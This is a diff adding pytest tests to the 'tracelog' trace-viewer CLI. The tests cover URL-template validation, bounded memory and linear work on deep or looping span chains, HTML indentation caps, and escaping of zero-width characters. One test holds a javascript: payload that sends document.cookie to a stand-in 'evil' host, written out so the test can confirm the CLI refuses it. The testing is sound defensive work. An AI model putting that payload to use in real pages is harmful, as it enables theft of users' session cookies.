@@ -8,9 +8,11 @@ import shutil
 import struct
 import subprocess
 import sys
+import tracemalloc
 from dataclasses import dataclass
 from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
 import pytest
 from opentelemetry import trace
@@ -19,8 +21,13 @@ from opentelemetry.trace import SpanKind, Status, StatusCode
 
 import tracelog
 from tests.cli_support import Corpus, hex_ids, run_cli, write_corpus
+from tracelog import _render as render
+from tracelog.cli import show
+from tracelog.cli.ids import parse_trace_id
+from tracelog.cli.show import build_trace, render_text
+from tracelog.cli.term import Colors
 from tracelog.export import JsonLinesSpanExporter
-from tracelog.schemas import datadog_trace_id, xray_trace_id
+from tracelog.schemas import SPAN_RECORD, datadog_trace_id, xray_trace_id
 from tracelog.testing import SpanRecorder
 
 ANSI = re.compile(r"\x1b\[[0-9;]*m")
@@ -202,8 +209,9 @@ class TestTraceUrl:
             f"link  http://localhost:16686/trace/{shop.trace_id}"
             == (proc.stdout.decode().splitlines()[1])
         )
-        proc = run_cli("show", "--trace-url", "z/{trace_id}", shop.trace_id, shop.path, env=env)
-        assert f"link  z/{shop.trace_id}" == proc.stdout.decode().splitlines()[1]
+        template = "https://z/{trace_id}"
+        proc = run_cli("show", "--trace-url", template, shop.trace_id, shop.path, env=env)
+        assert f"link  https://z/{shop.trace_id}" == proc.stdout.decode().splitlines()[1]
 
     @pytest.mark.parametrize(
         ("template", "problem"),
@@ -227,9 +235,23 @@ class TestTraceUrl:
 
     def test_bad_env_template_names_the_variable(self) -> None:
         """A bad TRACELOG_TRACE_URL is a usage error that names the variable."""
-        proc = run_cli("show", "ab" * 16, "/dev/null", env={"TRACELOG_TRACE_URL": "{nope}"})
+        env = {"TRACELOG_TRACE_URL": "http://x/{nope}"}
+        proc = run_cli("show", "ab" * 16, "/dev/null", env=env)
         assert 2 == proc.returncode
         assert proc.stderr.startswith(b"tracelog show: bad TRACELOG_TRACE_URL template: unknown")
+
+    @pytest.mark.parametrize("html", [False, True], ids=["terminal", "html"])
+    def test_javascript_template_is_a_usage_error(self, shop: Shop, tmp_path, html) -> None:
+        """A javascript: template is refused with exit 2 before any page is written."""
+        out = tmp_path / "trace.html"
+        template = "javascript:fetch('//evil/'+document.cookie)//{trace_id}"
+        args = ["--html", out] if html else []
+        proc = run_cli("show", *args, "--trace-url", template, shop.trace_id, shop.path)
+        assert (2, b"", False) == (proc.returncode, proc.stdout, out.exists())
+        assert proc.stderr.startswith(
+            b"tracelog show: bad --trace-url template: the template must start with http:// or "
+            b"https://, not "
+        )
 
 
 class _Page(HTMLParser):
@@ -367,3 +389,133 @@ class TestWithTracer:
         rows = waterfall(run_cli("show", trace_id, path).stdout)
         assert 2 == len(rows)
         assert rows[0].startswith("op  svc  internal  ")
+
+
+def span_record(span: int, parent: int | None, name: str = "") -> dict[str, object]:
+    """A span record of trace TRACE_ID, span id = *span* in hex."""
+    start = 1_700_000_000_000_000_000 + span
+    return SPAN_RECORD.record(
+        trace_id=TRACE_ID,
+        span_id=f"{span:016x}",
+        parent_span_id=None if parent is None else f"{parent:016x}",
+        name=name or f"s{span}",
+        kind="internal",
+        service="svc",
+        start_ns=start,
+        end_ns=start + 1000,
+        status="unset",
+        status_message=None,
+        attributes={},
+    )
+
+
+TRACE_ID = "4bf92f3577b34da6a3ce929d0e0e4736"
+
+
+class TestHostileSpanRecords:
+    def test_deep_chain_costs_bounded_memory(self) -> None:
+        """An 8,000-deep parent chain renders every span in little memory, lines stay short."""
+        records = [span_record(1, None), *(span_record(i, i - 1) for i in range(2, 8001))]
+        tracemalloc.start()
+        try:
+            trace = build_trace([(r, SPAN_RECORD) for r in records], parse_trace_id(TRACE_ID))
+            lines = render_text(trace, Colors(enabled=False), 40, None)
+            peak = tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+        spans = [line for line in lines if " internal " in line]
+        assert 8000 == len(spans)
+        assert peak < 48 * 1024 * 1024, peak
+        assert max(map(len, lines)) < 400
+        assert f"└{8000 - 1}─ s8000 " in spans[-1]
+
+    def test_parent_loops_all_show(self, tmp_path: Path) -> None:
+        """10,000 records in 5,000 two-span loops: every span shows, each loop from one member."""
+        path = tmp_path / "loops.jsonl"
+        with path.open("wb") as out:
+            for i in range(1, 10_001, 2):
+                out.write(render.dumps(span_record(i, i + 1)))
+                out.write(render.dumps(span_record(i + 1, i)))
+        proc = run_cli("show", "--color", "never", TRACE_ID, path)
+        assert 0 == proc.returncode, proc.stderr
+        rows = [line for line in proc.stdout.decode().splitlines() if " internal " in line]
+        assert 10_000 == len(rows)
+        assert 5_000 == sum(1 for row in rows if "─ " not in row)
+
+    @pytest.mark.parametrize("shape", ["loops", "chain"])
+    def test_work_grows_linearly(self, shape: str) -> None:
+        """Lines of show.py run to build and draw a trace grow with the records, not their square.
+
+        Counted with a line tracer, not timed: four times the records may cost about four
+        times the lines (sorting adds a little), never sixteen.
+        """
+
+        def records(n: int) -> list[dict[str, object]]:
+            if shape == "loops":
+                return [
+                    r
+                    for i in range(1, n, 2)
+                    for r in (span_record(i, i + 1), span_record(i + 1, i))
+                ]
+            return [span_record(1, None), *(span_record(i, i - 1) for i in range(2, n + 1))]
+
+        def lines_run(n: int) -> int:
+            matches = [(r, SPAN_RECORD) for r in records(n)]
+            count = 0
+
+            def local(frame: Any, event: str, arg: Any) -> Any:
+                nonlocal count
+                count += event == "line"
+                return local
+
+            def tracer(frame: Any, event: str, arg: Any) -> Any:
+                return local if frame.f_code.co_filename == show.__file__ else None
+
+            previous = sys.gettrace()  # coverage's tracer, when it runs
+            sys.settrace(tracer)
+            try:
+                render_text(build_trace(matches, parse_trace_id(TRACE_ID)), Colors(False), 40, None)
+            finally:
+                sys.settrace(previous)
+            return count
+
+        assert lines_run(2000) < 6 * lines_run(500)
+
+    def test_loop_keeps_children_under_their_parent(self) -> None:
+        """A span hanging off a loop stays under its parent; the loop is cut at a member."""
+        records = [span_record(3, 1, "C"), span_record(1, 2, "A"), span_record(2, 1, "B")]
+        trace = build_trace([(r, SPAN_RECORD) for r in records], parse_trace_id(TRACE_ID))
+        shown = sorted((node.name, depth) for node, depth, _, _ in trace.walk())
+        assert [("A", 0), ("B", 1), ("C", 1)] == shown
+
+    def test_html_indentation_is_capped(self) -> None:
+        """The HTML page indents at most MAX_INDENT levels."""
+        from tracelog.cli.html import render_html
+        from tracelog.cli.show import MAX_INDENT
+
+        records = [span_record(1, None), *(span_record(i, i - 1) for i in range(2, 101))]
+        trace = build_trace([(r, SPAN_RECORD) for r in records], parse_trace_id(TRACE_ID))
+        depths = {int(d) for d in re.findall(r"--depth:(\d+)", render_html(trace))}
+        assert MAX_INDENT == max(depths)
+
+
+class TestZeroWidth:
+    def test_show_escapes_invisible_characters(self, tmp_path: Path) -> None:
+        """Zero-width characters in log text are spelled out by tracelog show."""
+        path = tmp_path / "zw.jsonl"
+        message = "pay\u200bment\u200c ok\u200d\u2060\ufeff"
+        path.write_bytes(
+            render.dumps(
+                {
+                    "timestamp": "2026-01-01T00:00:00Z",
+                    "level": "info",
+                    "message": message,
+                    "traceId": TRACE_ID,
+                    "spanId": "00f067aa0ba902b7",
+                }
+            )
+        )
+        proc = run_cli("show", "--color", "never", TRACE_ID, path)
+        out = proc.stdout.decode()
+        assert "pay\\u200bment\\u200c ok\\u200d\\u2060\\ufeff" in out
+        assert not {"\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"} & set(out)
